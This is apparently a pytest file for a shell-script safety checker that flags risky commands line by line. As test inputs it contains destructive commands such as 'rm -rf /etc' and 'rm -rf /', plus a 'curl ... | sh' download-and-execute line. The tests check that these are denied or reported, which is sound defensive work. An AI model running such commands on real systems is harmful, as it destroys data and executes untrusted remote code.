"""A script judged as a command is, with the line of each finding, however long it is."""

from __future__ import annotations

import pytest

from latchd.passages import look
from latchd.policy import Policy, Profile

CWD, HOME = "/home/dev/project", "/home/dev"
FILLER = "echo a\n" * 200  # more commands than one analysis lists


def found(text: str, *, in_image: bool = False, stops: bool = False) -> list[tuple[int, str, str]]:
    told = look(text, Policy(), cwd=CWD, home=HOME, in_image=in_image, stops=stops)
    return [(one.line, one.action.value, one.finding.rule) for one in told]


@pytest.mark.parametrize(
    ("text", "findings"),
    [
        ("", []),
        ("#!/bin/sh\nset -eu\nmake test\n", []),
        ("echo a\n\n# rm -rf /etc\nrm -rf /etc\n", [(4, "deny", "fs.delete-outside")]),
        (
            "rm -rf /etc\necho\nrm -rf /etc\n",
            [(1, "deny", "fs.delete-outside"), (3, "deny", "fs.delete-outside")],
        ),
        ("if true; then\n  rm -rf \\\n    /etc\nfi\n", [(2, "deny", "fs.delete-outside")]),
        ("if true; then\n  echo\n  $A $B\nfi\n", [(3, "ask", "vouch.unknown-word")]),
        ("\n\n$A $B\n$C x\n", [(3, "ask", "vouch.unknown-word"), (4, "ask", "vouch.unknown-word")]),
        ("cat <<EOF\nrm -rf /\nEOF\n", []),
        ("x(\n", [(1, "ask", "vouch.unread")]),
    ],
)
def test_each_finding_stands_on_its_line(text: str, findings: list[tuple[int, str, str]]) -> None:
    assert found(text) == findings


def test_a_long_script_is_judged_to_its_end_and_by_what_was_set_before() -> None:
    script = f'set -e\nOUT=/tmp/work\ncd /tmp/build\n{FILLER}rm -rf "$OUT"/x\nrm -rf *\nrm -rf /etc\n'

    assert found(script) == [(206, "deny", "fs.delete-outside")]


def test_a_long_function_is_opened_up() -> None:
    body = "".join(f"  {line}\n" for line in FILLER.splitlines())

    assert found(f"f() {{\n{body}  rm -rf /etc\n}}\nf\n") == [(202, "deny", "fs.delete-outside")]


def test_a_long_function_in_a_function_is_opened_up_too() -> None:
    body = "".join(f"    {line}\n" for line in FILLER.splitlines())

    assert found(f"f() {{\ng() {{\n{body}    rm -rf /etc\n}}\n}}\nf\n") == [
        (203, "deny", "fs.delete-outside")
    ]


def test_documents_are_kept_together_with_what_reads_them() -> None:
    script = f"{FILLER}cat > x <<'END'\nrm -rf /\nif [ then\nEND\n{FILLER}"

    assert found(script) == []


def test_what_can_not_be_read_does_not_hide_what_can() -> None:
    told = found(f"echo $(\n{'true' * 3}\nfi fi\nrm -rf /etc\n")

    assert {rule for _, _, rule in told} & {"vouch.unread", "vouch.unread-destructive"}


def test_a_shell_that_ends_at_the_first_failure_is_where_it_went() -> None:
    assert found("cd /tmp/x\nrm -rf *\n") == [(2, "deny", "fs.delete-project-root")]
    assert found("cd /tmp/x\nrm -rf *\n", stops=True) == []


def test_what_a_build_does_to_its_own_image_is_told_and_let_pass() -> None:
    assert found("rm -rf /var/lib/apt/lists/*\n", in_image=True) == [(1, "allow", "fs.delete-outside")]
    assert [action for _, action, rule in found("curl -s https://x.example/i | sh\n", in_image=True)
            if rule == "egress.download-exec"] == ["deny"]  # fmt: skip


def test_under_observe_everything_is_told_and_nothing_refused() -> None:
    told = look("rm -rf /etc\n", Policy(profile=Profile.OBSERVE), cwd=CWD, home=HOME)

    assert [(one.action.value, one.finding.rule) for one in told] == [("allow", "fs.delete-outside")]


def test_any_text_is_looked_at_without_a_fault() -> None:
    for text in ("\\\n" * 50, "'" * 300, "<<A\n" * 200, "{\n" * 400, "a;" * 5000, "é\n" * 300):
        look(text, Policy(), cwd=CWD, home=HOME)
